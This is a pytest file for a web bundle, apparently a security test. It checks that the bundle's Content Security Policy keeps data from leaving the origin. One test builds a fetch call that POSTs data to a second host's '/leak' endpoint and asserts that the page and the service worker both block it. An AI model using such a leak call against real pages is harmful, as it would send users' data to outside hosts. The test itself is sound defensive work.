"""The policy that the page and its worker are under, whoever sends it: nothing that the model is given can leave the origin."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import Error

from packager.headers import CONTENT_SECURITY_POLICY, SECURITY_HEADERS

from .server import ISOLATION, Host
from .visitor import run, until

if TYPE_CHECKING:
    from .bundles import Bundle
    from .visitor import Visitor

# A page of somebody's own with a script inside, which the bundle's policy would not let run.
OWN = """<!doctype html><link rel="icon" href="data:,"><title>Own</title><script>globalThis.ran = true;</script>"""


@pytest.mark.parametrize("sender", ["the host", "the service worker"])
def test_nothing_leaves_even_by_mistake(host: Host, bundle: Bundle, visitor: Visitor, sender: str) -> None:
    if sender == "the host":
        host.headers |= ISOLATION | SECURITY_HEADERS
    page = visitor.open(f"{host.origin}/", documents=1 if sender == "the host" else 2)
    until(page, "document.documentElement.dataset.state === 'ready'")
    assert page.evaluate("crossOriginIsolated")
    assert visitor.complaints == []
    with Host(headers={"Access-Control-Allow-Origin": "*", "Cross-Origin-Resource-Policy": "cross-origin"}) as elsewhere:
        leak = f"fetch('{elsewhere.origin}/leak', {{ method: 'POST', body: 'input', mode: 'no-cors' }})"
        for realm in (page, page.workers[0]):
            with pytest.raises(Error, match="Failed to fetch"):
                realm.evaluate(leak)
        assert elsewhere.log == []
    # Were it not so, the silence that other tests ask for would mean nothing.
    assert len([complaint for complaint in visitor.complaints if "connect-src 'self'" in complaint]) == 2
    with pytest.raises(Error, match="TrustedScriptURL"):
        page.evaluate("new Worker('./packager.js')")


def test_a_page_of_ones_own_keeps_its_own_rules(host: Host, bundle: Bundle, visitor: Visitor) -> None:
    host.pages["/own.html"] = OWN
    page = visitor.open(f"{host.origin}/", documents=2)
    page.goto(f"{host.origin}/own.html")
    assert page.evaluate("[globalThis.ran, crossOriginIsolated]") == [True, True]
    assert run(page, bundle).matches(bundle)


def test_the_page_carries_the_policy_of_its_engines(bundle: Bundle) -> None:
    page = (bundle.site / "index.html").read_text(encoding="utf-8")
    assert f'http-equiv="Content-Security-Policy" content="{CONTENT_SECURITY_POLICY}"' in page
